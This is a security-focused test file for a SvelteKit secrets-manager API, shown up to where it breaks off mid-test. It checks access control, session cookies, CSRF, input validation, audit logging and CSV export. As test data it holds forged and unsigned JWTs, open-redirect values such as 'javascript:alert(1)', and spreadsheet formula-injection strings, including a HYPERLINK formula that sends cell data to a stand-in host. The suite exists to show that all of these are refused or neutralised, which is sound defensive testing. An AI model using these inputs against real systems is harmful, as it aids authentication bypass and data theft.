// The JSON API of examples/sveltekit, as built: who may what, what is refused and how, and where values never are.

import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, request as send } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { setTimeout } from 'node:timers/promises';
import { Service } from '../../demo/web/processes.ts';
import { sign } from '../../demo/web/tokens.ts';
import { asSpreadsheet, caller, fine, heard, parseCsv, refused, signIn, unflatten, type Call } from './api.ts';
import { ALICE, asService, BLOG, BOB, OPERATOR, SHOP, startStack } from './support.ts';

const stack = await startStack({ port: 0 });
const ALICES_ID = 'a11ce000-0000-4000-8000-000000000001';
const NEWSLETTER = '5709e000-0000-4000-8000-000000000004';
/** @supabase/ssr names it by the first part of Supabase's host, here 127.0.0.1. */
const COOKIE = 'sb-127-auth-token';
const NOWHERE = '00000000-0000-4000-8000-000000000000';
const SECRETS = `/api/projects/${SHOP}/secrets`;
/** A value that is stored and revealed, and must be in no log and in no other answer. */
const CANARY = `canary-${randomUUID()}`;

const tokenOf = async (email: string) => (await stack.auth.session(email)).access_token;
const bearer = async (email: string) => caller(stack.url, { authorization: `Bearer ${await tokenOf(email)}` });
const [alice, bob, operator] = [await bearer(ALICE), await bearer(BOB), await bearer(OPERATOR)];
const anonymous = caller(stack.url, {});

/** A new secret of Alice's; its path. */
async function secret(name: string, more: object = { value: `value of ${name}` }): Promise<string> {
	return `${SECRETS}/${fine(await alice('POST', SECRETS, { name, ...more }), 201).id}`;
}
const names = (body: { secrets: { name: string }[] }) => body.secrets.map(({ name }) => name);

before(async () => {
	// Whatever the server could log, it logs.
	await stack.sql("ALTER SYSTEM SET log_statement = 'all'");
	await stack.sql('ALTER SYSTEM SET log_min_duration_statement = 0');
	await stack.sql('SELECT pg_reload_conf()');
});

describe('secrets', () => {
	test('are listed, a page at a time, without values', async () => {
		const whole = fine(await alice('GET', SECRETS));
		assert.deepEqual(names(whole), ['SMTP_PASSWORD', 'STRIPE_SECRET_KEY', 'WEBHOOK_SIGNING_KEY']);
		assert.equal(whole.next, null);
		assert.deepEqual(whole.seal, { sealed: false, cause: null, remedy: null });
		assert.equal('value' in whole.secrets[0], false);

		const first = fine(await alice('GET', `${SECRETS}?page_size=2`));
		assert.equal(first.next, 'STRIPE_SECRET_KEY');
		const second = fine(await alice('GET', `${SECRETS}?page_size=2&after=${first.next}`));
		assert.deepEqual([names(second), second.next], [['WEBHOOK_SIGNING_KEY'], null]);
		assert.deepEqual(names(fine(await alice('GET', `${SECRETS}?search=payments`))), ['STRIPE_SECRET_KEY']);
		assert.deepEqual(fine(await alice('GET', `/api/projects/${NEWSLETTER}/secrets`)).secrets, []);
	});

	test('are made once', async () => {
		const about = { description: 'About it', metadata: { env: ['live'] }, expires_at: '2099-01-01T00:00:00+01:00' };
		const made = fine(await alice('POST', SECRETS, { name: 'MADE', value: 'x', ...about }), 201);
		assert.deepEqual([made.name, made.version, made.expires_at], ['MADE', 1, '2098-12-31T23:00:00+00:00']);
		const [listed] = fine(await alice('GET', `${SECRETS}?search=MADE`)).secrets;
		assert.deepEqual([listed.id, listed.description, listed.metadata], [made.id, 'About it', { env: ['live'] }]);
		refused(await alice('POST', SECRETS, { name: 'MADE', value: 'y' }), 409, 'PT409');
		assert.equal(fine(await alice('POST', `${SECRETS}/${made.id}/reveal`)).value, 'x');
	});

	test('may be generated, and nobody is told', async () => {
		const path = await secret('GENERATED', { generate: { length: 12, charset: 'digits' } });
		assert.match(fine(await alice('POST', `${path}/reveal`, {})).value, /^\d{12}$/);
		fine(await alice('PUT', path, { generate: {} }));
		assert.match(fine(await alice('POST', `${path}/reveal`, {})).value, /^[\w-]{32}$/);
	});

	test('have versions', async () => {
		const path = await secret('VERSIONED', { value: 'one' });
		const second = fine(await alice('PUT', path, { value: 'two', cas: 1, previous_valid_for: '1 hour' }));
		assert.deepEqual([second.version, second.name], [2, 'VERSIONED']);
		refused(await alice('PUT', path, { value: 'three', cas: 1 }), 409, 'PT409');
		refused(await alice('POST', `${path}/rollback`, { version: 1, cas: 1 }), 409, 'PT409');
		refused(await alice('POST', `${path}/rollback`, { version: 9 }), 404, 'PT404');
		assert.equal(fine(await alice('POST', `${path}/rollback`, { version: 1, cas: 2 })).version, 3);

		const { versions } = fine(await alice('GET', `${path}/versions`));
		assert.deepEqual(versions.map((one: any) => [one.version, one.is_current]), [[3, true], [2, false], [1, false]]);
		assert.ok(versions[2].expires_at);
		const copied = fine(await alice('POST', `${path}/reveal`, { version: 2, purpose: 'copy' }));
		assert.deepEqual(copied, { value: 'two', version: 2 });
		assert.deepEqual(fine(await alice('POST', `${path}/reveal`)), { value: 'one' });
		refused(await alice('POST', `${path}/reveal`, { version: 9 }), 404, 'PT404');
	});

	test('expire, and stop doing so', async () => {
		const path = await secret('EXPIRING');
		assert.equal(fine(await alice('PATCH', path, { expires_at: 'now' })).status, 'expired');
		assert.equal(fine(await alice('PATCH', path, { expires_at: '2000-01-01T00:00:00Z' })).status, 'expired');
		refused(await alice('POST', `${path}/reveal`), 410, 'PT410');
		const { due } = fine(await alice('GET', `/api/projects/${SHOP}/due`));
		assert.deepEqual(due.map((one: any) => [one.name, one.status]), [['EXPIRING', 'expired'], ['SMTP_PASSWORD', 'due']]);
		assert.equal(fine(await alice('GET', `/api/projects/${SHOP}/due?within=1%20day`)).due.length, 1);
		const never = fine(await alice('PATCH', path, { expires_at: null }));
		assert.deepEqual([never.status, never.expires_at], ['enabled', null]);
		assert.equal(fine(await alice('POST', `${path}/reveal`)).value, 'value of EXPIRING');
	});

	test('are deleted, restored, and removed for good', async () => {
		const path = await secret('DELETED');
		assert.equal(fine(await alice('DELETE', path)).status, 'deleted');
		refused(await alice('POST', `${path}/reveal`), 410, 'PT410');
		refused(await alice('PUT', path, { value: 'again' }), 410, 'PT410');
		assert.equal(names(fine(await alice('GET', SECRETS))).includes('DELETED'), false);
		assert.equal(names(fine(await alice('GET', `${SECRETS}?include_deleted=true`))).includes('DELETED'), true);
		assert.equal(fine(await alice('POST', `${path}/undelete`)).status, 'enabled');

		refused(await alice('DELETE', `${path}?purge=true`), 400, 'invalid_request');
		refused(await alice('DELETE', `${path}?purge=true&confirm=deleted`), 400, '22023');
		assert.equal(fine(await alice('DELETE', `${path}?purge=true&confirm=DELETED`), 204), '');
		for (const [method, action, body] of [
			['GET', '/versions'], ['POST', '/reveal'], ['POST', '/undelete'], ['DELETE', ''],
			['PUT', '', { value: 'x' }], ['PATCH', '', { expires_at: null }], ['POST', '/rollback', { version: 1 }],
		] as const) refused(await alice(method, path + action, body), 404, 'PT404');
	});

	test('must not be too large', async () => {
		const { hint } = refused(await alice('POST', SECRETS, { name: 'LARGE', value: 'x'.repeat(66_000) }), 413, 'PT413');
		assert.match(hint, /max_value_size/);
		// This one does not get as far as the database.
		refused(await alice('POST', SECRETS, { name: 'LARGE', value: 'x'.repeat(600_000) }), 413, 'PT413');
	});
});

describe('a request that is not legal', () => {
	const bad: [method: string, path: string, body: unknown, issue: string][] = [
		['POST', SECRETS, { name: 'N', value: CANARY, [CANARY]: 1 }, ''],
		['POST', SECRETS, { name: 'N', value: [CANARY] }, 'value'],
		['POST', SECRETS, { name: [CANARY], value: CANARY }, 'name'],
		['POST', SECRETS, { name: 'N' }, ''],
		['POST', SECRETS, { name: 'N', value: CANARY, generate: {} }, ''],
		['POST', SECRETS, { name: 'N', generate: { charset: CANARY } }, 'generate.charset'],
		['POST', SECRETS, { name: 'N', generate: { length: 1.5 } }, 'generate.length'],
		['POST', SECRETS, { name: 'N', value: CANARY, expires_at: CANARY }, 'expires_at'],
		['POST', SECRETS, { name: 'N', value: CANARY, cas: 1 }, ''],
		['POST', SECRETS, `{"name": "N", "value": "${CANARY}`, ''],
		['POST', SECRETS, `"${CANARY}"`, ''],
		['POST', SECRETS, undefined, 'name'],
		['GET', `${SECRETS}?page_size=${CANARY}`, undefined, 'page_size'],
		['GET', `${SECRETS}?${CANARY}=1`, undefined, ''],
		['GET', `${SECRETS}?include_deleted=${CANARY}`, undefined, 'include_deleted'],
		['GET', `/api/projects/${CANARY}/secrets`, undefined, 'projectId'],
		['GET', `/api/projects/${CANARY}/due`, undefined, 'projectId'],
		['GET', `${SECRETS}/${CANARY}/versions`, undefined, 'secretId'],
		['DELETE', `${SECRETS}/${NOWHERE}?confirm=${CANARY}`, undefined, ''],
		['DELETE', `${SECRETS}/${NOWHERE}?purge=${CANARY}&confirm=${CANARY}`, undefined, 'purge'],
		['PUT', `${SECRETS}/${NOWHERE}`, { value: CANARY, name: CANARY }, ''],
		['PUT', `${SECRETS}/${NOWHERE}`, { value: CANARY, cas: CANARY }, 'cas'],
		['PATCH', `${SECRETS}/${NOWHERE}`, {}, 'expires_at'],
		['POST', `${SECRETS}/${NOWHERE}/reveal`, { purpose: CANARY }, 'purpose'],
		['POST', `${SECRETS}/${NOWHERE}/rollback`, { version: CANARY }, 'version'],
		['POST', '/api/v1/kek/rotate', { reason: [CANARY] }, 'reason'],
		['GET', `/api/audit-logs?since=${CANARY}`, undefined, 'since'],
		['GET', `/api/audit-logs?outcome=${CANARY}`, undefined, 'outcome'],
		['GET', `/api/audit-logs?format=${CANARY}`, undefined, 'format'],
	];
	for (const [method, path, body, issue] of bad) {
		const shown = (text = '') => text.replaceAll(CANARY, '…').replace(/^.*secrets/, 'secrets');
		test(`${method} ${shown(path)} ${shown(JSON.stringify(body))}`, async () => {
			const answer = await alice(method, path, body);
			const { issues } = refused(answer, 400, 'invalid_request');
			assert.ok(issues.some((one: any) => one.path === issue && one.message), JSON.stringify(issues));
			assert.equal(JSON.stringify(answer.body).includes(CANARY), false, 'what was given is repeated');
		});
	}

	test('is refused by the database where it knows better', async () => {
		refused(await alice('GET', `${SECRETS}?page_size=1001`), 400, '22023');
		refused(await alice('POST', SECRETS, { name: '', value: 'x' }), 400, '22023');
		refused(await alice('POST', SECRETS, { name: 'N', value: `${CANARY}\0` }), 400, '22021');
		const { message } = refused(await alice('GET', `/api/projects/${SHOP}/due?within=one%20banana`), 400, '22007');
		assert.equal(message.includes('banana'), false);
	});

	test('must be JSON', async () => {
		const body = JSON.stringify({ name: 'N', value: CANARY });
		const headers = { 'content-type': 'text/plain', origin: stack.url };
		refused(await alice('POST', SECRETS, body, headers), 400, 'invalid_request');
	});

	test('to an address that is none', async () => {
		refused(await alice('GET', '/api/nothing'), 404, 'not_found');
		refused(await anonymous('GET', '/api/nothing'), 401, 'unauthenticated');
		assert.equal((await alice('DELETE', SECRETS)).status, 405);
	});
});

/** Every endpoint, for a secret of the shop. */
const everything = (id: string): [method: string, path: string, body?: unknown][] => [
	['GET', SECRETS], ['POST', SECRETS, { name: 'FOREIGN', value: 'x' }], ['GET', `/api/projects/${SHOP}/due`],
	['GET', `/api/projects/${SHOP}/seal`],
	['PUT', `${SECRETS}/${id}`, { value: 'x' }], ['PATCH', `${SECRETS}/${id}`, { expires_at: null }],
	['DELETE', `${SECRETS}/${id}`], ['DELETE', `${SECRETS}/${id}?purge=true&confirm=GUARDED`],
	['GET', `${SECRETS}/${id}/versions`], ['POST', `${SECRETS}/${id}/reveal`],
	['POST', `${SECRETS}/${id}/rollback`, { version: 1 }], ['POST', `${SECRETS}/${id}/undelete`],
	['POST', '/api/v1/kek/rotate', {}], ['GET', '/api/v1/kek/status'], ['GET', '/api/v1/doctor'],
	['GET', '/api/audit-logs'], ['GET', '/api/audit-logs?format=csv'], ['GET', '/api/audit-logs/verify'],
];

describe('who may what', () => {
	let id: string;
	before(async () => (id = (await secret('GUARDED')).split('/').at(-1)!));
	after(async () => assert.equal(fine(await alice('POST', `${SECRETS}/${id}/reveal`)).value, 'value of GUARDED'));

	test('nobody without signing in', async () => {
		for (const [method, path, body] of everything(id)) {
			refused(await anonymous(method, path, body), 401, 'unauthenticated');
		}
	});

	test('not with a token that is forged, tampered with, expired or not a user\'s', async () => {
		const genuine = await tokenOf(ALICE);
		const [header, payload, signature] = genuine.split('.');
		const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
		const part = (json: unknown) => Buffer.from(JSON.stringify(json)).toString('base64url');
		const tokens = {
			'signed by another': sign(claims, 'another secret', 3600),
			'of another role': `${header}.${part({ ...claims, role: 'meshhook_operator' })}.${signature}`,
			'of another user': `${header}.${part({ ...claims, sub: 'b0b00000-0000-4000-8000-000000000002' })}.${signature}`,
			'not signed': `${part({ alg: 'none', typ: 'JWT' })}.${payload}.`,
			'not signed, with a key': `${part({ alg: 'none', kid: 'x', typ: 'JWT' })}.${payload}.`,
			'with an unknown key': `${part({ alg: 'ES256', kid: 'x', typ: 'JWT' })}.${payload}.${signature}`,
			'cut off': genuine.slice(0, -4),
			'no JSON': 'YQ.YQ.YQ',
			'JSON of another kind': `${part(null)}.${part({ sub: 'x', exp: 99999999999 })}.c2ln`,
			'no token': 'x',
			'expired': stack.token({ sub: ALICES_ID, role: 'authenticated' }, -10),
			'the public key': stack.anonKey,
			'the service key': stack.serviceRoleKey,
		};
		for (const [what, token] of Object.entries(tokens)) {
			const answer = await caller(stack.url, { authorization: `Bearer ${token}` })('GET', SECRETS);
			assert.equal(answer.status, 401, what);
			refused(answer, 401, 'unauthenticated');
			// As the session's cookie.
			const session = { access_token: token, refresh_token: 'x', expires_at: 4e9, expires_in: 1e9, token_type: 'bearer' };
			const cookie = `${COOKIE}=base64-${part({ ...session, user: {} })}`;
			assert.equal((await caller(stack.url, { cookie })('GET', SECRETS)).status, 401, `${what}, as a cookie`);
		}
		assert.equal((await caller(stack.url, { authorization: `Basic ${genuine}` })('GET', SECRETS)).status, 401);
		fine(await caller(stack.url, { authorization: `bearer ${genuine}` })('GET', SECRETS));
	});

	test('other users find nothing: what is there and what is not look the same', async () => {
		for (const [method, path, body] of everything(id).filter(([, path]) => path.startsWith(SECRETS))) {
			const real = await bob(method, path, body);
			const none = await bob(method, path.replace(SHOP, NOWHERE).replace(id, NOWHERE), body);
			refused(real, 403, '42501');
			assert.deepEqual(real.body, none.body, `${method} ${path}`);
			// In a project of his own, an id of Alice's is one that is not there.
			if (path.includes(id)) {
				refused(await bob(method, path.replace(SHOP, BLOG), body), 404, 'PT404');
				refused(await alice(method, path.replace(id, NOWHERE), body), 404, 'PT404');
			}
		}
		// Nor is a secret found through another project of its owner, even under the same name.
		const elsewhere = `/api/projects/${NEWSLETTER}/secrets`;
		fine(await alice('POST', elsewhere, { name: 'GUARDED', value: 'of the newsletter' }), 201);
		refused(await alice('POST', `${elsewhere}/${id}/reveal`), 404, 'PT404');
		refused(await bob('GET', `/api/projects/${SHOP}/due`), 403, '42501');
		refused(await bob('GET', `/api/audit-logs?project_id=${SHOP}`), 403, '42501');
		assert.deepEqual(names(fine(await bob('GET', `/api/projects/${BLOG}/secrets`))), ['GITHUB_TOKEN']);
		// His attempts are on record.
		const { records } = fine(await alice('GET', `/api/audit-logs?project_id=${SHOP}&outcome=denied`));
		assert.ok(records.some((one: any) => one.claimed_sub === 'b0b00000-0000-4000-8000-000000000002'));
	});

	test('users look after no keys', async () => {
		for (const [method, path] of everything(id).filter(([, path]) => path.startsWith('/api/v1/'))) {
			refused(await alice(method, path), 403, '42501');
		}
		refused(await alice('GET', '/api/audit-logs/verify'), 403, '42501');
	});

	test('operators have keys and the audit log, and no secrets', async () => {
		for (const [method, path, body] of everything(id).filter(([, path]) => path.startsWith('/api/projects/'))) {
			refused(await operator(method, path, body), 403, '42501');
		}
		const rotation = fine(await operator('POST', '/api/v1/kek/rotate', { reason: 'test' }), 202);
		assert.deepEqual([rotation.reason, typeof rotation.remaining], ['test', 'number']);
		const { keks, root_keys, seal, health } = fine(await operator('GET', '/api/v1/kek/status'));
		assert.equal(keks.find((one: any) => one.status === 'active').kek_id, rotation.kek_id);
		assert.deepEqual([root_keys.length, seal.sealed, typeof health.state], [1, false, 'string']);
		const { findings } = fine(await operator('GET', '/api/v1/doctor'));
		assert.ok(findings.every((one: any) => one.severity && one.finding && one.detail));
		const verification = fine(await operator('GET', '/api/audit-logs/verify'));
		assert.deepEqual([verification.ok, verification.problems], [true, []]);
	});
});

/** The cookie of a session of Alice's whose token has expired. */
async function expiredSession(more: object = {}): Promise<string> {
	const { cookie } = await signIn(stack.url, ALICE);
	const session = JSON.parse(Buffer.from(cookie.replace(`${COOKIE}=base64-`, ''), 'base64url').toString());
	session.access_token = stack.token({ sub: ALICES_ID, role: 'authenticated' }, -10);
	const expired = JSON.stringify({ ...session, expires_at: 1, ...more });
	return `${COOKIE}=base64-${Buffer.from(expired).toString('base64url')}`;
}

describe('a session', () => {
	test('begins with the form and is a cookie that no script can read', async () => {
		const { response, set, cookie } = await signIn(stack.url, ALICE, { next: '/projects?tab=1' });
		assert.deepEqual([response.status, response.headers.get('location')], [303, '/projects?tab=1']);
		assert.ok(set.length > 0);
		for (const one of set) assert.match(one, /^sb-.*; Path=\/; HttpOnly; SameSite=Lax$/);
		const browser = caller(stack.url, { cookie });
		fine(await browser('GET', SECRETS));
		const path = `${SECRETS}/${fine(await browser('GET', `${SECRETS}?search=SMTP`)).secrets[0].id}`;
		assert.equal(fine(await browser('POST', `${path}/reveal`, {}, { origin: stack.url })).value.length, 32);

		// Whoever is signed in has no need of the form.
		const again = await browser('GET', '/login?next=/audit');
		assert.deepEqual([again.status, again.headers.get('location')], [303, '/audit']);
		const page = await browser('GET', '/');
		assert.equal(page.headers.get('cache-control'), 'no-store');

		const end = await browser('POST', '/logout', undefined, { origin: stack.url });
		assert.deepEqual([end.status, end.headers.get('location')], [303, '/login']);
		const cleared = end.headers.getSetCookie();
		assert.deepEqual(cleared.map((one) => one.split('=')[0]).sort(), set.map((one) => one.split('=')[0]).sort());
		for (const one of cleared) assert.match(one, /Max-Age=0/);
	});

	test('is renewed when its token has expired', async () => {
		const browser = caller(stack.url, { cookie: await expiredSession() });
		// A page asks for several things at a time, all with the same cookie.
		for (const answer of await Promise.all([1, 2, 3].map(() => browser('GET', SECRETS)))) {
			fine(answer);
			assert.ok(answer.headers.getSetCookie().length > 0);
			for (const one of answer.headers.getSetCookie()) assert.match(one, /HttpOnly/);
		}
	});

	test('is renewed also by a request that is refused, and forgotten when it cannot be', async () => {
		const refusedOnes = [
			['POST', '/login', 403, 'text/plain'], ['GET', '/api/nothing', 404, 'application/json'],
		] as const;
		for (const [method, path, status, type] of refusedOnes) {
			const answer = await caller(stack.url, { cookie: await expiredSession() })(method, path);
			assert.equal(answer.status, status, path);
			assert.ok(answer.headers.get('content-type')!.startsWith(type));
			assert.ok(answer.headers.getSetCookie().some((one) => one.startsWith(`${COOKIE}=`)), path);
		}
		const unknown = await expiredSession({ refresh_token: 'unknown' });
		for (const path of ['/', SECRETS]) {
			const { headers } = await caller(stack.url, { cookie: unknown })('GET', path);
			assert.ok(headers.getSetCookie().some((one) => one.includes('Max-Age=0')), path);
		}
	});

	test('does not begin with a wrong password', async () => {
		const forms: Record<string, string>[] = [
			{ email: ALICE, password: CANARY }, { email: 'nobody@demo.test', password: 'demo' }, {},
		];
		for (const form of forms) {
			const response = await fetch(`${stack.url}/login`, {
				method: 'POST',
				headers: { origin: stack.url, accept: 'application/json', 'x-sveltekit-action': 'true' },
				body: new URLSearchParams(form),
			});
			const answer = (await response.json()) as { type: string; status: number; data: string };
			heard.push(JSON.stringify(answer));
			assert.deepEqual([answer.type, answer.status, response.headers.getSetCookie()], ['failure', 400, []]);
			assert.match(answer.data, /The email or the password is wrong/);
			if (form.email) assert.ok(answer.data.includes(form.email));
		}
	});

	test('leads to pages of this site only', async () => {
		for (const next of [
			'//evil.example', 'https://evil.example/', '/\\evil.example', '/\t/evil.example', '/.//evil.example',
			'/x/..//evil.example', 'javascript:alert(1)', 'evil', '',
		]) {
			const { response } = await signIn(stack.url, BOB, { next });
			assert.equal(response.headers.get('location'), '/', JSON.stringify(next));
		}
	});

	test('is what pages need', async () => {
		for (const [path, location] of [['/', '/login?next=%2F'], ['/nothing?a=b', '/login?next=%2Fnothing%3Fa%3Db']]) {
			const answer = await anonymous('GET', path);
			assert.deepEqual([answer.status, answer.headers.get('location')], [303, location]);
			assert.equal(answer.headers.get('cache-control'), 'no-store');
			assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
			assert.match(answer.headers.get('content-security-policy')!, /^default-src 'none'/);
		}
		assert.equal((await anonymous('GET', '/login')).status, 200);
		assert.equal((await caller(stack.url, { cookie: `${COOKIE}=base64-bm9uc2Vuc2U` })('GET', '/')).status, 303);
	});

	test('tells pages who it is, which projects there are, and the demo\'s accounts', async () => {
		const layoutOf = async (call: Call, path: string) =>
			unflatten(fine(await call('GET', `${path}/__data.json`)).nodes[0].data);
		const signedOut = await layoutOf(anonymous, '/login');
		assert.deepEqual([signedOut.user, signedOut.projects], [null, []]);
		assert.deepEqual(signedOut.demo.map(({ email }: any) => email), [ALICE, BOB, OPERATOR]);
		const alices = await layoutOf(alice, '');
		assert.deepEqual(alices.user, { id: ALICES_ID, email: ALICE, name: 'Alice', operator: false });
		assert.deepEqual(alices.projects.map(({ id }: any) => id), [NEWSLETTER, SHOP]);
		const operators = await layoutOf(operator, '');
		assert.deepEqual([operators.user.operator, operators.projects], [true, []]);
	});
});

test('a malformed address is refused, and nothing else happens', async () => {
	for (const [path, headers] of [
		['/%E0%A4%A', {}], ['/api/%FF', {}], ['/%FF/__data.json', {}],
		['/_app/remote/a/b', { 'x-sveltekit-pathname': '/%FF' }],
	] as const) {
		for (const call of [anonymous, alice]) {
			const answer = await call('GET', path, undefined, headers);
			assert.equal(answer.status, 400, path);
			assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
		}
	}
	fine(await alice('GET', SECRETS));
});

test('a method that an address does not take is refused in JSON, with those that it takes', async () => {
	for (const [method, path, allow] of [
		['PUT', SECRETS, 'GET, POST, HEAD'], ['GET', `${SECRETS}/${NOWHERE}/reveal`, 'POST'],
		['POST', '/api/audit-logs', 'GET, HEAD'],
	] as const) {
		const answer = await alice(method, path);
		refused(answer, 405, 'method_not_allowed');
		assert.equal(answer.headers.get('allow'), allow);
	}
});

test('other sites cannot write with a user\'s cookie', async () => {
	const browser = caller(stack.url, { cookie: (await signIn(stack.url, ALICE)).cookie });
	const body = { name: 'FORGED', value: 'x' };
	const origins: (Record<string, string>)[] = [
		{ origin: 'https://evil.example' }, { origin: 'null' }, { origin: `${stack.url}.evil.example` }, {},
	];
	for (const origin of origins) {
		refused(await browser('POST', SECRETS, body, origin), 403, 'cross_origin');
		refused(await browser('DELETE', `${SECRETS}/${NOWHERE}`, undefined, origin), 403, 'cross_origin');
		assert.equal((await browser('POST', '/logout', undefined, origin)).status, 403);
	}
	assert.equal((await signIn(stack.url, ALICE, { origin: 'https://evil.example' })).response.status, 403);
	fine(await browser('GET', SECRETS, undefined, { origin: 'https://evil.example' }));
	fine(await browser('POST', SECRETS, { ...body, name: 'NOT_FORGED' }, { origin: stack.url }), 201);
	// A token does not come along by itself.
	fine(await alice('POST', SECRETS, { ...body, name: 'BY_TOKEN' }, { origin: 'https://evil.example' }), 201);
	assert.equal(names(fine(await alice('GET', SECRETS))).includes('FORGED'), false);
});

describe('the audit log', () => {
	test('is searched, a page at a time; members see their projects', async () => {
		const path = await secret('AUDITED');
		fine(await alice('POST', `${path}/reveal`, { purpose: 'copy' }, { 'x-request-id': 'my-request.1' }));
		const query = `/api/audit-logs?project_id=${SHOP}&name=AUDITED`;
		const { records, next } = fine(await alice('GET', `${query}&action=secret_get`));
		assert.equal(next, null);
		assert.deepEqual([records[0].action, records[0].purpose, records[0].request_id, records[0].claimed_sub],
			['secret_get', 'copy', 'my-request.1', ALICES_ID]);

		// Once all are sealed, hence numbered.
		const sealed = async () => fine(await alice('GET', query)).records.every(({ id }: any) => id !== null);
		while (!(await sealed())) await setTimeout(50);
		const paged: string[] = [];
		for (let next = ''; paged.length < 10; ) {
			const page = fine(await alice('GET', `${query}&page_size=1${next}`));
			paged.push(...page.records.map(({ action }: any) => action));
			if (page.next === null) break;
			next = `&after=${page.next}`;
		}
		assert.deepEqual(paged, ['secret_get', 'secret_put']);
		const { records: others } = fine(await bob('GET', '/api/audit-logs?page_size=1000'));
		assert.ok(others.every((one: any) => one.project_id === BLOG));
		assert.deepEqual(fine(await alice('GET', `${query}&until=2001-01-01T00:00:00Z`)).records, []);
		assert.deepEqual(fine(await alice('GET', `${query}&actor=nobody`)).records, []);
	});

	test('keeps ids of requests that are ids', async () => {
		const given = await alice('GET', SECRETS, undefined, { 'x-request-id': 'a.B_c-9' });
		assert.equal(given.headers.get('x-request-id'), 'a.B_c-9');
		for (const id of ['with space', 'x'.repeat(101), '<script>', CANARY + '!']) {
			const answer = await alice('GET', SECRETS, undefined, { 'x-request-id': id });
			assert.match(answer.headers.get('x-request-id')!, /^[0-9a-f-]{36}$/);
		}
	});

	test('is a file for spreadsheets, whole and without formulas', async () => {
		const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '"quoted", and more\r\nlines',
			'run;=HYPERLINK("http://x/?"&A1)', ' =1+1', 'a\t=1', 'a;"=1"', 'a,\n=1', '"=1', 'x";=1;"', ';;@A1'];
		const client = asService(stack);
		for (const purpose of formulas) {
			const { error } = await client.rpc('secret_get', { project_id: SHOP, name: 'SMTP_PASSWORD', purpose });
			assert.equal(error, null);
		}
		// Enough for three pages.
		const claims = JSON.stringify({ sub: ALICES_ID, role: 'authenticated' });
		await stack.sql(`SELECT set_config('request.jwt.claims', '${claims}', false); SET ROLE authenticated;
			SELECT count(meshhook_secrets.secret_get('${SHOP}', 'SMTP_PASSWORD', purpose => 'n' || n))
			FROM generate_series(1, 2345) n`);
		const query = `project_id=${SHOP}&action=secret_get&name=SMTP_PASSWORD`;
		const answer = await alice('GET', `/api/audit-logs?${query}&format=csv`);
		fine(answer);
		assert.equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8');
		assert.equal(answer.headers.get('content-disposition'), 'attachment; filename="audit-logs.csv"');
		const [header, ...rows] = parseCsv(answer.body);
		assert.equal(header.length, 21);
		assert.ok(rows.every((row) => row.length === 21));
		const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
		const purposes = new Set(column('purpose'));
		for (let n = 1; n <= 2345; n++) assert.ok(purposes.has(`n${n}`), `n${n}`);
		const ids = column('id').filter((id) => id);
		assert.equal(new Set(ids).size, ids.length);
		for (const formula of formulas) {
			assert.ok([...purposes].some((purpose) => purpose.replaceAll("'", '') === formula), formula);
		}
		// Where the comma is the decimal point, spreadsheets split at semicolons; some people's at tabs.
		for (const separator of [',', ';', '\t']) {
			for (const cell of asSpreadsheet(answer.body, separator)) {
				const [first = ''] = cell.trimStart();
				assert.ok(!'=+-@'.includes(first) || first === '', `split at ${separator}: ${cell}`);
			}
		}
		refused(await bob('GET', `/api/audit-logs?project_id=${SHOP}&format=csv`), 403, '42501');
	});
});

test('sealed: what needs keys is refused with the way out, the rest goes on', async () => {
	const path = await secret('SEALED');
	await stack.sql('SELECT meshhook_secrets.seal()');
	for (const [method, at, body] of [
		['POST', SECRETS, { name: 'NEW', value: CANARY }], ['PUT', path, { value: CANARY }], ['POST', `${path}/reveal`],
	] as const) {
		const { detail, hint } = refused(await alice(method, at, body), 503, 'PT503');
		assert.ok(detail && hint);
	}
	const { secrets, seal } = fine(await alice('GET', SECRETS));
	assert.ok(secrets.length > 3);
	assert.deepEqual([seal.sealed, typeof seal.cause, typeof seal.remedy], [true, 'string', 'string']);
	assert.deepEqual(fine(await alice('GET', `/api/projects/${SHOP}/seal`)), seal);
	fine(await alice('GET', `${path}/versions`));
	fine(await alice('GET', `/api/projects/${SHOP}/due`));
	fine(await alice('GET', `/api/audit-logs?project_id=${SHOP}`));
	const status = fine(await operator('GET', '/api/v1/kek/status'));
	assert.deepEqual([status.seal.sealed, status.health.state], [true, 'sealed']);
	fine(await operator('GET', '/api/v1/doctor'));
	refused(await operator('POST', '/api/v1/kek/rotate', {}), 503, 'PT503');

	await stack.sql('SELECT meshhook_secrets.unseal()');
	assert.equal(fine(await alice('GET', SECRETS)).seal.sealed, false);
	assert.equal(fine(await alice('GET', `/api/projects/${SHOP}/seal`)).sealed, false);
	assert.equal(fine(await alice('POST', `${path}/reveal`)).value, 'value of SEALED');
});

test('pages have a policy that lets nothing else in', async () => {
	const pages = [await anonymous('GET', '/login'), await anonymous('GET', '/login')];
	const policies = pages.map(({ headers }) => headers.get('content-security-policy')!);
	for (const part of [
		"default-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'",
	]) {
		assert.ok(policies[0].split('; ').includes(part), part);
	}
	assert.doesNotMatch(policies[0].replace("style-src-attr 'unsafe-inline'", ''), /unsafe|http|\*/);
	const nonces = policies.map((policy) => /script-src 'self' 'nonce-([^']+)'/.exec(policy)![1]);
	assert.notEqual(nonces[0], nonces[1]);
	const scripts = pages[0].body.match(/<script[^>]*>/g);
	for (const script of scripts) assert.ok(script.includes(`nonce="${nonces[0]}"`), script);
	const { headers } = pages[0];
	assert.equal(headers.get('referrer-policy'), 'same-origin');
	assert.equal(headers.get('x-content-type-options'), 'nosniff');
	assert.equal(headers.get('cross-origin-opener-policy'), 'same-origin');
	assert.match(headers.get('permissions-policy')!, /camera=\(\)/);
	assert.equal(headers.get('strict-transport-security'), null);
	const ofApi = (await alice('GET', SECRETS)).headers.get('content-security-policy');
	assert.equal(ofApi, "default-src 'none'; frame-ancestors 'none'");
});

test('pages come with what they show, and no value', async () => {
	const [{ id }] = fine(await alice('GET', `${SECRETS}?search=stripe`)).secrets;
	const { value } = fine(await alice('POST', `${SECRETS}/${id}/reveal`));
	const html = fine(await alice('GET', `/projects/${SHOP}/secrets`, undefined, { accept: 'text/html' }));
